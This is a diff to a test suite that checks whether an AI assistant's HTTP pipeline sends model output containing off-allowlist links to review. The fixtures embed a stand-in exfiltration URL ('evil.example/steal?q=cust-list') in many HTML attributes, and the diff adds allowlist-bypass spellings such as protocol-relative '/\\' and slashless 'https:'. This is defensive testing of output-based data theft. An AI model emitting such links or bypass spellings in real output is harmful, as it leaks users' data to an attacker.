@@ -85,9 +85,10 @@ describe('link allowlist bypasses through the HTTP pipeline (LLM05-2, issue 12 B
     }
   });
 
-  test('LLM05-2 B4: an off-list URL in any link-bearing HTML attribute (src, srcset, action, formaction, xlink:href, poster, cite, data, background, ping, style url(), meta refresh), when returned, then sent to review', async () => {
-    const evil = 'https://evil.example/steal?q=cust-list';
-    const documents = [
+  test('LLM05-2 B4: an off-list URL in any link-bearing HTML attribute (src, srcset, action, formaction, xlink:href, poster, cite, data, background, ping, style url(), meta refresh), when returned, then sent to review; allowlisted, relative and mailto links stay 200', async () => {
+    // Spelled the ways a browser still reads as evil.example: `/\\host` is protocol-relative, `https:host` needs no slashes.
+    const evils = ['/\\evil.example/steal?q=cust-list', 'https:evil.example/steal?q=cust-list', 'https:\\\\evil.example/steal'];
+    const documents = (evil: string): string[] => [
       `<p><img src="${evil}" alt="x"></p>`,
       `<p><img src="https://brightbean.example/a.png" srcset="https://brightbean.example/a.png 1x, ${evil} 2x" alt="x"></p>`,
       `<form action="${evil}"><input type="submit"></form>`,
@@ -100,12 +101,13 @@ describe('link allowlist bypasses through the HTTP pipeline (LLM05-2, issue 12 B
       `<p><a href="https://brightbean.example/help" ping="${evil}">Help</a></p>`,
       `<p style="background-image: url('${evil}')">Refunds.</p>`,
       `<meta http-equiv="refresh" content="0; url=${evil}">`,
-      `<p><a href="https&#58;//evil&#46;example/steal">Help</a></p>`,
+      `<p><a href="${evil.replace(':', '&#58;')}">Help</a></p>`,
     ];
-    for (const html of documents) await assertSentToReview(await draft(html), html);
-  });
+    for (const evil of evils) {
+      for (const html of documents(evil)) await assertSentToReview(await draft(html), html);
+    }
 
-  test('LLM05-2 B4: allowlisted, relative and mailto links in markdown and HTML, when returned, then 200 with them intact (no false positive)', async () => {
+    // No false positive: allowlisted, relative and mailto links stay, in markdown and in HTML.
     const text = 'See [refunds](https://brightbean.example/help/refunds), [returns](/help/returns) or https://brightbean.example/help. Mail [us](mailto:help@brightbean.example).';
     const response = await answer(text);
     assert.equal(response.status, 200, response.text);
